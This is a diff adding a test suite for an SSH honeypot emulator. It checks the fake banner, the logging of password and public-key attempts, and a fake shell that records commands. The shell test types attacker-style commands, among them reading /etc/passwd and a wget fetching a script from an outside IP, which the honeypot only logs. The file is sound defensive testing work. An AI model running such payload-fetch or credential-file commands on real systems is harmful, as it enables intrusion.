@@ -1,0 +1,140 @@
+import { Client, type ClientChannel } from 'ssh2'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { rawClient, startTestEmulator } from './helpers.ts'
+
+type Started = Awaited<ReturnType<typeof startTestEmulator>>
+
+function connectSsh(host: string, port: number, username: string, password: string): Promise<Client> {
+  return new Promise((resolve, reject) => {
+    const client = new Client()
+    client.once('ready', () => resolve(client))
+    client.once('error', reject)
+    client.connect({ host, port, username, password, readyTimeout: 10_000 })
+  })
+}
+
+function exec(client: Client, command: string): Promise<{ output: string; code: number }> {
+  return new Promise((resolve, reject) => {
+    client.exec(command, (error, stream) => {
+      if (error) return reject(error)
+      let output = ''
+      let code = -1
+      stream.on('data', (chunk: Buffer) => {
+        output += chunk.toString()
+      })
+      stream.on('exit', (exitCode: number) => {
+        code = exitCode
+      })
+      stream.on('close', () => resolve({ output, code }))
+    })
+  })
+}
+
+describe('ssh emulator', () => {
+  let ssh: Started
+  beforeAll(async () => {
+    ssh = await startTestEmulator('ssh', {
+      config: { password: 'rootpw', user: 'deploy', user_password: 'Summer2024!' },
+      seed: 'decky-ssh-1',
+    })
+  })
+  afterAll(() => ssh.running.close())
+
+  it('announces a distro OpenSSH banner, stable for one decky seed', async () => {
+    const bannerOf = async (host: string, port: number) => {
+      const client = await rawClient(host, port)
+      const text = await client.expect(/\r\n/)
+      client.close()
+      return text
+    }
+    const banner = await bannerOf(ssh.host, ssh.port)
+    expect(banner).toMatch(/^SSH-2\.0-OpenSSH_\d\.\d(p1)?( (Ubuntu|Debian)-\S+)?\r\n$/)
+    const again = await startTestEmulator('ssh', { seed: 'decky-ssh-1' })
+    try {
+      expect(await bannerOf(again.host, again.port)).toBe(banner)
+    } finally {
+      await again.running.close()
+    }
+  })
+
+  it('captures a failed password attempt with username and password', async () => {
+    await expect(connectSsh(ssh.host, ssh.port, 'admin', 'hunter2')).rejects.toThrow(/authentication/i)
+    const event = await ssh.waitFor((e) => e.event === 'auth_attempt' && e.fields.username === 'admin')
+    expect(event.fields).toMatchObject({ method: 'password', password: 'hunter2', success: false })
+    expect(event.secret_fields).toEqual(['password'])
+    expect(event.src_ip).toBe('127.0.0.1')
+    expect(String(event.fields.client_version)).toMatch(/^SSH-2\.0-/)
+  })
+
+  it('captures an offered public key by fingerprint', async () => {
+    const { generateKeyPairSync } = await import('node:crypto')
+    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
+    const pem = privateKey.export({ type: 'pkcs1', format: 'pem' }).toString()
+    await expect(
+      new Promise((resolve, reject) => {
+        const client = new Client()
+        client.once('ready', () => resolve(client))
+        client.once('error', reject)
+        client.connect({
+          host: ssh.host,
+          port: ssh.port,
+          username: 'git',
+          privateKey: pem,
+          readyTimeout: 10_000,
+        })
+      }),
+    ).rejects.toThrow()
+    const event = await ssh.waitFor((e) => e.event === 'auth_attempt' && e.fields.username === 'git')
+    expect(event.fields.method).toBe('publickey')
+    expect(String(event.fields.fingerprint)).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/)
+  })
+
+  it('lets configured credentials into a fake shell that records every command', async () => {
+    const client = await connectSsh(ssh.host, ssh.port, 'deploy', 'Summer2024!')
+    try {
+      const channel = await new Promise<ClientChannel>((resolve, reject) =>
+        client.shell({ term: 'xterm' }, (error, stream) => (error ? reject(error) : resolve(stream))),
+      )
+      let screen = ''
+      channel.on('data', (chunk: Buffer) => {
+        screen += chunk.toString()
+      })
+      const waitScreen = async (pattern: RegExp) => {
+        for (let i = 0; i < 100 && !pattern.test(screen); i++) await new Promise((r) => setTimeout(r, 20))
+        expect(screen).toMatch(pattern)
+      }
+      await waitScreen(/deploy@SRV-DELTA-42:~\$ $/)
+      channel.write('whoami\r')
+      await waitScreen(/whoami\r\ndeploy\r\n/)
+      channel.write('cat /etc/passwd\r')
+      await waitScreen(/root:x:0:0:root:\/root:\/bin\/bash/)
+      channel.write('wget http://203.0.113.9/x.sh\r')
+      await waitScreen(/wget: command not found/)
+      channel.write('exit\r')
+      await new Promise((resolve) => channel.on('close', resolve))
+      const commands = ssh.events.filter((e) => e.event === 'command').map((e) => e.fields.cmd)
+      expect(commands).toEqual(
+        expect.arrayContaining(['whoami', 'cat /etc/passwd', 'wget http://203.0.113.9/x.sh']),
+      )
+      const success = await ssh.waitFor((e) => e.event === 'auth_attempt' && e.fields.success === true)
+      expect(success.fields.username).toBe('deploy')
+    } finally {
+      client.end()
+    }
+  })
+
+  it('answers exec requests plausibly and records them', async () => {
+    const client = await connectSsh(ssh.host, ssh.port, 'root', 'rootpw')
+    try {
+      const uname = await exec(client, 'uname -a')
+      expect(uname.output).toMatch(/^Linux SRV-DELTA-42 \S+ .* x86_64 GNU\/Linux\n$/)
+      expect(uname.code).toBe(0)
+      const id = await exec(client, 'id')
+      expect(id.output).toBe('uid=0(root) gid=0(root) groups=0(root)\n')
+      const event = await ssh.waitFor((e) => e.event === 'command' && e.fields.cmd === 'uname -a')
+      expect(event.fields).toMatchObject({ username: 'root', via: 'ssh-exec' })
+    } finally {
+      client.end()
+    }
+  })
+})
